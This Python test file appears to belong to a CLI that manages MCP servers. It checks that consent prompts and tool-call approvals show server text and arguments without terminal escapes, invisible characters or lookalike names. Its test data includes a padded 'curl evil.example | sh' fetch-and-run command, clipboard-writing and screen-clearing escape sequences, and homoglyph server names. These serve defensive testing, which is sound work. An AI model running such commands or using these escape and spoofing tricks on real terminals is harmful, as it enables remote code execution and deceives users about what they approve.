"""Text from servers and files in a terminal: it is only ever shown, and what a person agrees to is all there."""

from __future__ import annotations

import io
import json
import re
import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest

from pilothouse.cli import consent, questions
from pilothouse.cli.terminal import Terminal, exact, exact_json, plain
from pilothouse.mcp.servers.names import mixes_scripts
from pilothouse.types.items import Call, Item, Question
from pilothouse.types.json import JsonObject
from pilothouse.types.servers import Consent
from tests.support.commands import Screen, pilothouse, server
from tests.support.mcp_servers import scripted

# Clear screen, hide what follows, move up, a link, the clipboard, a title, bells, a lone carriage return.
ESCAPES = "\x1b[2J\x1b[8m\x1b[1A\x1b]8;;https://evil.example\x1b\\x\x1b]52;c;eA==\x07\x1b]0;t\x07\x9b31m\r\x08\x7f"
# Bidi overrides, zero width, a variation selector, a soft hyphen, tag characters, odd spaces.
UNSEEN = "\u202e\u2066\u200b\ufe0f\u00ad\U000e0041\u00a0\u2028\u3164"

# Styles, and what the line editor writes to draw its own line.
EDITING = re.compile(r"\x1b\[(\?\d+[hl]|\d*[mJKCD])")


def shown_consent(**fields: object) -> str:
    stream = io.StringIO()
    asked = Consent(
        fingerprint="f" * 64,
        argv=("/usr/bin/env", "-S", "server"),
        program="/usr/bin/env",
        program_owner="root",
        environment=(),
        folder="/home/me",
    )
    consent.show("Echo", msgspec.structs.replace(asked, **fields), Terminal(stream))
    return stream.getvalue()


def question(arguments: JsonObject, text: str = "Allow files.write?") -> tuple[Question, Call]:
    """Return an approval and the call it is about."""
    call: Any = Item(
        id="i_1",
        conversation_id="c_1",
        run_id="r_1",
        kind="tool_call",
        status="streaming",
        position=1,
        text="",
        raw={"arguments": arguments},
        created_at=0.0,
        updated_at=0.0,
    )
    choices = [{"id": "allow", "label": "Allow once"}, {"id": "deny", "label": "Deny"}]
    data = {"kind": "approval", "callItemId": "i_1", "serverTool": "files.write", "choices": choices}
    return msgspec.structs.replace(call, id="i_2", kind="question", status="waiting", text=text, raw=data), call


def shown_question(arguments: JsonObject, text: str = "Allow files.write?") -> str:
    stream = io.StringIO()
    questions.show(*question(arguments, text), Terminal(stream))
    return stream.getvalue()


@pytest.mark.case("TEXT-01", "TEXT-02", "SPAWN-02")
def test_a_command_that_hides_a_part_of_itself_is_shown_in_full() -> None:
    padded = f"{' ' * 4096}; curl evil.example | sh"
    text = shown_consent(argv=("/usr/bin/env", f"a{ESCAPES}b", padded, UNSEEN, "two\nlines"), environment=(ESCAPES,))
    assert "\x1b" not in text
    assert "\r" not in text
    assert padded in text
    assert r"a\u{001b}[2J\u{001b}[8m" in text
    assert r"two\u{000a}lines" in text
    for char in UNSEEN:
        assert char not in text
        assert f"{ord(char):04x}" in text
    # One line for each argument: none can pass for another.
    assert [line.split()[1] for line in text.splitlines() if line.startswith("  argument")] == ["1", "2", "3", "4"]


@pytest.mark.case("TEXT-02", "SPAWN-02")
def test_an_honest_command_is_shown_as_it_is() -> None:
    text = shown_consent(
        argv=("/usr/bin/env", "-S", "Grüße aus Zürich.txt", "日本語"), warnings=("Runs arbitrary code.",)
    )
    assert "Grüße aus Zürich.txt" in text
    assert "日本語" in text
    assert "! Runs arbitrary code." in text
    assert "\\u" not in text


@pytest.mark.case("TEXT-01", "TEXT-02")
def test_the_arguments_of_a_call_are_shown_whole_and_exactly() -> None:
    arguments = {"path": f"/tmp/{ESCAPES}", UNSEEN: ["x", {"deep": UNSEEN}], "long": "y" * 50_000}
    text = shown_question(arguments, f"Allow{ESCAPES}?")
    assert "\x1b" not in text
    assert not any(char in text for char in UNSEEN)
    shown = text[text.index("{") :]
    assert json.loads(shown) == arguments


@pytest.mark.case("TEXT-04")
def test_what_cannot_be_seen_is_written_by_its_number_and_the_rest_stays() -> None:
    assert exact("plain text, Zürich, 世界") == "plain text, Zürich, 世界"
    assert exact("a\u200bb") == r"a\u{200b}b"
    assert json.loads(exact_json(json.dumps({"a": UNSEEN}, ensure_ascii=False))) == {"a": UNSEEN}
    assert exact_json('{\n  "a": "b"\n}') == '{\n  "a": "b"\n}'


@pytest.mark.case("TEXT-05")
def test_a_name_that_looks_like_another_is_told_and_its_host_is_shown_as_the_network_knows_it(home: Path) -> None:
    # The a and the o are Cyrillic, the package's c as well.
    far = pilothouse(home, "mcp", "add", "--name", "p\u0430ypal", "https://p\u0430yp\u0430l.invalid/mcp")
    assert "Its name mixes letters of scripts that look alike: 'p\\u0430ypal'" in far.err
    assert "the network knows it as xn--" in far.err
    local = pilothouse(home, "mcp", "add", "--name", "local", sys.executable, "-m", "m\u0441p_server")
    assert "mixes letters of scripts that look alike: 'm\\u0441p_server'" in local.err
    listed = pilothouse(home, "mcp", "list")
    assert "https://xn--" in listed.out
    honest = pilothouse(home, "mcp", "add", "--name", "Müllers 世界", sys.executable, "-m", "сервер", "--größe")
    assert "look alike" not in honest.err


@pytest.mark.case("TEXT-05")
@pytest.mark.parametrize(
    ("name", "odd"),
    [
        ("github", False),
        ("Müller", False),
        ("сервер", False),
        ("日本語サーバー tools", False),
        ("αβγ", False),
        ("p\u0430ypal", True),
        ("g\u03bfogle", True),
        ("\uff47ithub", True),
    ],
)
def test_only_scripts_that_look_alike_are_a_disguise_together(name: str, odd: bool) -> None:
    assert mixes_scripts(name) is odd


@pytest.mark.case("TEXT-01")
def test_nothing_that_a_server_says_reaches_the_terminal_unseen(home: Path, tmp_path: Path) -> None:
    tools = tmp_path / "tools.json"
    evil = {"name": "echo", "title": f"E{ESCAPES}", "description": ESCAPES, "inputSchema": {"type": "object"}}
    tools.write_text(json.dumps([evil, {**evil, "name": f"bad{ESCAPES}"}]))
    command = scripted("--tools", tools, "--say", f"log {ESCAPES}".replace("\0", ""))
    with Screen(home, ["mcp", "add", "--name", "Evil \x1b[2J", *command]) as screen:
        screen.until(r"Start it\?")
        screen.type("y\r")
        screen.ended()
        assert_harmless(screen)
    with server(home):
        prefix = json.loads(pilothouse(home, "mcp", "list", "--json").out)["servers"][0]["slug"]
        pilothouse(home, "mcp", "test", prefix)
        call = ["call", f"{prefix}.echo", json.dumps({"text": f"result {ESCAPES}"})]
        for arguments in (["list"], ["tools"], call, ["status"], ["logs", prefix], ["call", f"{prefix}.no{ESCAPES}"]):
            with Screen(home, ["mcp", *arguments]) as screen:
                screen.ended()
                assert_harmless(screen)
                assert screen.raw.strip()


def assert_harmless(screen: Screen) -> None:
    """Assert that what was shown has no escape but our styles and those of the line editor."""
    bare = EDITING.sub("", screen.raw).replace("\r\n", "\n").replace("\r", "")
    assert plain(bare) == bare, repr(bare)
    assert "evil.example\x1b" not in screen.raw
    assert "\x1b[2J" not in screen.raw
    assert "\x1b]" not in screen.raw
